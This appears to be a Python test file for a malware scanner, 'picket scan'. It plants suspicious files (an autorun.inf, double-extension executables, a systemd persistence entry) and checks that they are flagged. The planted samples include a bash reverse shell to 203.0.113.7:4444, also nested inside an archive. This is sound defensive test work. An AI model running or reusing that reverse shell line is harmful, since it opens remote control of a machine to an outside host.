# SPDX-License-Identifier: Apache-2.0
"""`picket scan` over a tree with planted files: what is found, what is not, by whom it is read, and
that a file which costs the scanner its life costs nothing else."""

import io
import json
import os
import shutil
import signal
import subprocess
import tarfile
import time
import unittest
import zipfile

from response_case import COULD_NOT, DONE, FOUND, PICKET, ResponseCase, main

SHELL = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
AUTORUN = ("[autorun]\r\nopen=RECYCLER\\photo.jpg.exe\r\naction=Open folder to view files\r\n"
           "icon=shell32.dll,4\r\n")
SECCOMP_FILTER = "2"


def windows_program(seed=1):
    return b"MZ" + bytes((i * i * seed + i // 7) % 251 for i in range(20_000))


class Scan(ResponseCase):
    def scan(self, *words, code=FOUND, **more):
        done = self.picket("scan", *words, "--json", code=code, **more)
        self.errors = done.stderr
        alerts = [json.loads(line) for line in done.stdout.splitlines()]
        return {(os.path.relpath(alert["file"], self.folder), alert["rule"]["id"]): alert
                for alert in alerts if "rule" in alert}

    def test_planted_files_are_found_and_others_are_not(self):
        self.write("t/stick/autorun.inf", AUTORUN)
        self.write("t/stick/RECYCLER/photo.jpg.exe", windows_program())
        self.write("t/stick/Photos/Photos.exe", windows_program())
        self.write("t/stick/Music/Music.exe", windows_program())
        self.write("t/run.sh", SHELL, 0o755)
        self.write("t/etc/systemd/system/x.service", "[Service]\nExecStart=/dev/shm/.x/run\n")
        self.write("t/notes.txt", "nothing to see\n")
        self.write("t/setup.exe", windows_program(3))
        with zipfile.ZipFile(self.folder / "t/mail.zip", "w") as outer:
            inner = io.BytesIO()
            with tarfile.open(fileobj=inner, mode="w:gz") as tar:
                entry = tarfile.TarInfo("bin/run.sh")
                entry.size = len(SHELL)
                tar.addfile(entry, io.BytesIO(SHELL.encode()))
            outer.writestr("in.tgz", inner.getvalue())
        found = self.scan("t", "--min-severity", "medium", "--store", self.state)
        self.assertEqual(set(found), {
            ("t/stick/autorun.inf", "autorun_drive"),
            ("t/stick/RECYCLER/photo.jpg.exe", "scan.double_extension"),
            ("t/stick/Music/Music.exe", "scan.copies"),
            ("t/run.sh", "yara.script_reverse_shell"),
            ("t/mail.zip!in.tgz!bin/run.sh", "yara.script_reverse_shell"),
            ("t/etc/systemd/system/x.service", "scan.persistence")})
        kept = self.picket("search", "--state", self.state, "kind:alert", "--count").stdout
        self.assertEqual(int(kept), len(found))
        shutil.rmtree(self.folder / "t/stick")
        shutil.rmtree(self.folder / "t/etc")
        for name in ("run.sh", "mail.zip"):
            (self.folder / "t" / name).unlink()
        self.assertEqual(self.scan("t", "--min-severity", "medium", code=DONE), {})

    def test_the_rest_of_an_alerts_file_is_found(self):
        self.write("t/first.pdf.exe", windows_program())
        alerts = self.scan("t", "--store", self.state)
        alert = alerts[("t/first.pdf.exe", "scan.double_extension")]
        self.write("other/copy.bin", windows_program())
        near = bytearray(windows_program())
        near[9000:9050] = b"x" * 50
        self.write("other/near.bin", bytes(near))
        self.write("other/else.bin", windows_program(5))
        found = self.scan("other", "--like", alert["id"], "--state", self.state)
        self.assertEqual({path for path, rule in found if rule == "scan.like"},
                         {"other/copy.bin", "other/near.bin"})

    def test_lists_and_rules_of_the_users(self):
        self.write("t/bad", b"hello")
        self.write("list.txt", "5d41402abc4b2a76b9719d911017c592\n")
        self.write("mine.yar", 'rule mine { strings: $a = "hell" condition: $a }')
        found = self.scan("t", "--indicators", "list.txt", "--yara", "mine.yar")
        self.assertEqual({rule for _, rule in found}, {"list.txt", "yara.mine"})
        self.write("broken.yar", "rule {")
        self.scan("t", "--yara", "broken.yar", code=COULD_NOT)
        self.assertIn("broken.yar", self.errors)

    def test_picket_itself_is_clean(self):
        self.assertEqual(self.scan(PICKET, "--min-severity", "medium", code=DONE), {})

    def test_programs_that_run_even_from_memory(self):
        memory = os.memfd_create("ghost", 0)
        with open("/bin/sleep", "rb") as program:
            os.write(memory, program.read())
        running = self.start("/proc/%d/fd/%d" % (os.getpid(), memory), 600)
        found = self.scan("--processes", "--min-severity", "high")
        alerts = [alert for (_, rule), alert in found.items() if rule == "scan.memory_program"]
        self.assertIn(running.pid, [alert["process"]["pid"] for alert in alerts])

    def test_it_goes_on_where_it_was_stopped(self):
        for number in range(40):
            self.write("t/%02d.sh" % number, SHELL + "# %d\n" % number)
        # A pipe as the output that is not read: the scan waits in its first lines for us.
        command = [PICKET, "scan", "t", "--json", "--resume", "where", "-q"]
        with subprocess.Popen(command, cwd=self.folder, stdout=subprocess.PIPE) as scan:
            first = [json.loads(scan.stdout.readline()) for _ in range(3)]
            scan.send_signal(signal.SIGINT)
            rest = [json.loads(line) for line in scan.stdout]
        told = [alert["file"] for alert in first + rest if alert["rule"]["id"].startswith("yara")]
        if scan.returncode == COULD_NOT:  # else it was done before the signal came
            again = self.scan("t", "--resume", "where")
            told += [alert["file"] for (_, rule), alert in again.items() if rule.startswith("yara")]
        self.assertEqual(sorted(told), [str(self.folder / "t" / ("%02d.sh" % n)) for n in range(40)])
        self.assertFalse((self.folder / "where").exists())

    def scanner_of(self, scan):
        children = "/proc/%d/task/%d/children" % (scan.pid, scan.pid)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            with open(children, encoding="utf-8") as text:
                if pids := text.read().split():
                    return int(pids[0])
        self.fail("no scanning process")

    def test_a_scanner_that_dies_is_named_and_the_scan_goes_on(self):
        # The scan is held at a file of its own: a large one, which takes long to read.
        with open(self.folder / "a-large", "wb") as large:
            large.truncate(3 << 30)
        self.write("t/z.sh", SHELL)
        scan = subprocess.Popen([PICKET, "scan", "a-large", "t", "--json"], cwd=self.folder,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.addCleanup(scan.kill)
        scanner = self.scanner_of(scan)
        status = {}
        # It is locked in, and reads the large file: then it dies.
        while status.get("Seccomp") != SECCOMP_FILTER:
            with open("/proc/%d/status" % scanner, encoding="utf-8") as text:
                status = dict(line.split(":", 1) for line in text.read().splitlines())
            status = {name: value.strip() for name, value in status.items()}
        if os.geteuid() == 0:
            self.assertNotIn("0", status["Uid"].split())
            self.assertEqual(int(status["CapEff"], 16), 0)
        while not self.has_open(scanner, "a-large"):
            self.assertIsNone(scan.poll())
        os.kill(scanner, signal.SIGSEGV)
        out, errors = scan.communicate(timeout=120)
        self.assertIn("a-large: the scanning process was ended: Segmentation fault", errors)
        self.assertIn("z.sh", out)
        self.assertEqual(scan.returncode, FOUND)

    @staticmethod
    def has_open(pid, name):
        folder = "/proc/%d/fd" % pid
        for number in os.listdir(folder):
            try:
                if os.readlink(os.path.join(folder, number)).endswith(name):
                    return True
            except FileNotFoundError:
                pass  # closed meanwhile
        return False

    @unittest.skipUnless(os.geteuid() == 0, "takes root")
    def test_root_scans_with_links_and_pipes_in_its_way(self):
        os.makedirs(self.folder / "t")
        os.symlink("/etc", self.folder / "t/etc")
        os.mkfifo(self.folder / "t/pipe")
        self.write("t/x.sh", SHELL)
        self.assertEqual({path for path, _ in self.scan("t", "--min-severity", "high")}, {"t/x.sh"})


if __name__ == "__main__":
    main()
